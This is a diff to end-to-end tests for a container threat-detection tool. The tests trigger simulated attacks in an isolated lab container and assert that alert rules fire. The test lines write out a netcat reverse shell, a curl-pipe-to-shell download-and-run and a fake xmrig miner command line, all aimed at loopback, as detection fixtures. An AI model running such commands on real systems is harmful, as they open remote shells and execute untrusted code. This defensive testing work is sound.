@@ -60,15 +60,25 @@ describe('detection end to end (attack lab on the real engines)', () => {
     assert.ok(a.every((x) => x.threat.technique.name.includes('Network Service Discovery')));
   });
 
-  it('exec attacks: nc -e reverse shell, curl|sh, a stratum miner, an interactive shell', async () => {
+  it('exec attacks: nc -e reverse shell, curl|sh of a script served inside the container, an interactive shell', async () => {
     const { id } = await runContainer(docker, { name: `${ns}-victim`, image: LAB, cmd: ['sleep', '300'] });
     await exec(id, ['nc', '-e', '/bin/sh', '127.0.0.1', '4444']);
+    // The script is served from inside the container (its own loopback; --network none) and runs.
+    await exec(id, ['sh', '-c', "printf 'HTTP/1.0 200 OK\\r\\n\\r\\ntouch /tmp/pwned\\n' | nc -l -N 127.0.0.1 8000 >/dev/null & sleep 0.5"]);
     await exec(id, ['sh', '-c', 'curl -s http://127.0.0.1:8000/x.sh | sh']);
-    await exec(id, ['sh', '-c', 'echo mining with stratum+tcp://127.0.0.1:3333']);
+    assert.equal((await docker.getExec(await exec(id, ['test', '-f', '/tmp/pwned'])).inspect()).ExitCode, 0, 'the downloaded script ran');
     await exec(id, ['sh', '-c', 'exit 0'], true);
     // sigma-7f73…: SigmaHQ's "Potential Netcat Reverse Shell Execution", loaded from test/fixtures/sigma.
-    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-miner-process', 'dockward-interactive-exec', 'sigma-7f734ed0-4f47-46c0-837f-6ee62505abd9']);
+    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-interactive-exec', 'sigma-7f734ed0-4f47-46c0-837f-6ee62505abd9']);
     assert.ok(a.find((x) => x.rule.id === 'dockward-reverse-shell-nc')!.threat.technique.subtechnique!.id.includes('T1059.004'));
+  });
+
+  it('a fake miner: a long-lived process whose command line names a stratum pool, seen by polling', async () => {
+    const { id } = await runContainer(docker, { name: `${ns}-miner`, image: LAB, cmd: ['bash', '-c', 'exec -a "xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet" sleep 300'] });
+    const a = await alertsFor(id, ['dockward-miner-process']);
+    const alert = a.find((x) => x.rule.id === 'dockward-miner-process') as unknown as { process: { command_line: string }; threat: { technique: { id: string[] } } };
+    assert.match(alert.process.command_line, /^xmrig -o stratum\+tcp:/);
+    assert.ok(alert.threat.technique.id.includes('T1496'));
   });
 
   it('a binary added to the container and then run', async () => {
